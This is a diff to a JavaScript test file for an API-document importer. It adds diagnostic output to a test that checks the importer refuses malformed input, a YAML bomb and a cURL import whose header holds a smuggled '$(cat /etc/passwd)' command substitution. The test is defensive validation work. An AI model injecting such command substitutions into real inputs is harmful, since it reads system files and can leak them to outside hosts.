@@ -157,7 +157,7 @@ test('one invalid endpoint in a document: 422 naming it, and nothing is created'
   assert.equal(endpointCount(conn.id), 0, 'the valid endpoints before and after it are not created either');
 });
 
-test('bad documents: malformed, unknown version, a YAML bomb within a second, $(...) in cURL, 20 MB', async () => {
+test('bad documents: malformed, unknown version, a YAML bomb within a second, $(...) in cURL, 20 MB', async (t) => {
   const conn = await makeConnector();
   let r = await importInto(conn.id, 'openapi', '{\n  "openapi": "3.0.0",\n  "paths": {,}\n}');
   assert.equal(r.status, 422);
@@ -184,6 +184,7 @@ test('bad documents: malformed, unknown version, a YAML bomb within a second, $(
   assert.match(r.json().message, /aliases/);
   assert.ok(ms < 1000, `refused in ${ms.toFixed(1)} ms`);
   assert.ok(after - before < 16 * 1024, `memory flat: RSS ${before} kB → ${after} kB`);
+  t.diagnostic(`YAML bomb refused in ${ms.toFixed(1)} ms; dcgate RSS ${before} kB before, ${after} kB after`);
 
   r = await importInto(conn.id, 'curl', "curl https://h.example/x \\\n  -H \"X-Token: $(cat /etc/passwd)\"");
   assert.equal(r.status, 422, r.text);
